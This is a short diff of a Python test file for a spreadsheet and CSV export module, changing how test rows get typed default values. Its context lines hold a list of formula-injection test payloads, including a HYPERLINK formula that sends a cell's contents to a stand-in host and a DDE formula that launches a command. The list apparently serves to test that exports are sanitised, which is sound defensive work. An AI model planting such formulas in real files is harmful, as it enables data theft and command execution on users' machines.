@@ -7,6 +7,7 @@ import zipfile
 import openpyxl
 
 from generator.render.downloads import COLUMNS, to_csv, to_xlsx
+from generator.render.results_table import COLUMNS as TYPED
 from generator.render.spreadsheet import download_text
 
 FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A2)",
@@ -14,7 +15,7 @@ FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "=cmd|' /C ca
 
 
 def row(note: str, value_text: str = "99.2", number: float | None = 99.2) -> list:
-    cells = dict.fromkeys(COLUMNS, "")
+    cells = {c.name: None if c.type in ("integer", "number") else "" for c in TYPED}
     cells.update({"数值（原文写法）": value_text, "数值": number, "说明": note, "年份": 2022})
     return [cells[c] for c in COLUMNS]
 
